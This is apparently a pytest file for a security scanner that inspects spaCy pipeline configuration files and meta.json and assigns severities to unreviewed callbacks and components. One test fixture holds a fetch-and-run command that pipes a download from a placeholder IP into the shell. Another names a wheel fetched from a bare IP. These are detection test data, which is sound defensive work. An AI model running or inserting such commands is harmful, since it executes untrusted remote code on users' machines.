"""Configurations of spaCy pipelines: whose functions they call."""

import json

import pytest
from format_files import assert_total, look
from model_files import judged, model, seen

from toadstone.core.fact import Call, Link, Moment, Setting, Text
from toadstone.core.finding import Severity


def test_the_configuration_of_a_real_pipeline() -> None:
    found = seen("spacy.cfg")
    assert found.kind == "spacy-config"
    assert not found.unread
    assert not judged(found)
    assert {fact.value for fact in found.of(Setting)} >= {"spacy.Tokenizer.v1", "sentencizer"}
    assert_total(model("spacy.cfg"), "config.cfg")


def config(section: str, *entries: str) -> bytes:
    return "\n".join(['[nlp]\nlang = "en"\n', f"[{section}]", *entries, ""]).encode()


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        (config("nlp.before_creation", '@callbacks = "setup.v1"'), Severity.MEDIUM),
        (config("nlp.before_creation", '@callbacks = "x.v1"', 'run = "curl http://192.0.2.7/x | sh"'), Severity.HIGH),
        (config("nlp.tokenizer", '@tokenizers = "company.Tokenizer.v2"'), Severity.MEDIUM),
        (config("components.ner", 'factory = "my_component"'), Severity.MEDIUM),
        (config("components.ner.model", '@architectures = "company.Model"'), Severity.MEDIUM),
        (config("components.ner", 'factory = "ner"'), None),
        (config("components.ner.model", '@architectures = "spacy.TransitionBasedParser.v2"'), None),
        (config("components.ner.model", '@layers = "chain.v1"'), None),
        (
            config("components.t.model", '@architectures = "spacy-transformers.TransformerModel.v3"', 'name = "roberta-base"'),
            None,
        ),
        (config("corpora.train", '@readers = "company.reader.v1"', 'path = "/data/train"'), None),
    ],
)
def test_whose_functions(data: bytes, severity: Severity | None) -> None:
    assert judged(look(data, "config.cfg")).get("unreviewed-call") == severity


def test_when_they_run() -> None:
    data = config("nlp.x", '@callbacks = "a"') + b'[training.y]\n@callbacks = "b"\n'
    assert [(fact.callee.name, fact.when) for fact in look(data, "config.cfg").of(Call)] == [
        ("a", Moment.LOAD),
        ("b", Moment.USE),
    ]


def test_a_component_from_somewhere_else() -> None:
    data = config("components.ner", 'source = "/srv/other"')
    assert [fact.target for fact in look(data, "config.cfg", {"meta.json": b"{}"}).of(Link)] == ["/srv/other"]
    assert "read-on-load" in judged(look(data, "config.cfg", {"meta.json": b"{}"}), Severity.HIGH)
    assert not look(data, "config.cfg").of(Link)  # to train with: nobody loads it
    assert not look(config("components.ner", 'source = "en_core_web_sm"'), "config.cfg", {"meta.json": b"{}"}).of(Link)


def test_values_over_several_lines_and_addresses() -> None:
    found = look(
        config("components.x", "patterns = [", '    "a",', '    "b"', "  ]", 'url = "https://example.com/model"'), "config.cfg"
    )
    assert [fact.text for fact in found.of(Text)] == ["https://example.com/model"]


def test_other_configurations_are_text() -> None:
    assert look(b"[metadata]\nname = x\n", "setup.cfg").kind == "text"


def test_requirements_of_a_pipeline() -> None:
    meta = {"lang": "en", "spacy_version": ">=3.8", "requirements": ["mypackage @ http://192.0.2.7/p.whl"]}
    found = look(json.dumps(meta).encode(), "meta.json")
    assert [fact.schema for fact in found.of(Setting)] == ["pip"]
    assert not look(json.dumps({**meta, "requirements": ["spacy-transformers>=1.2"]}).encode(), "meta.json").of(Setting)
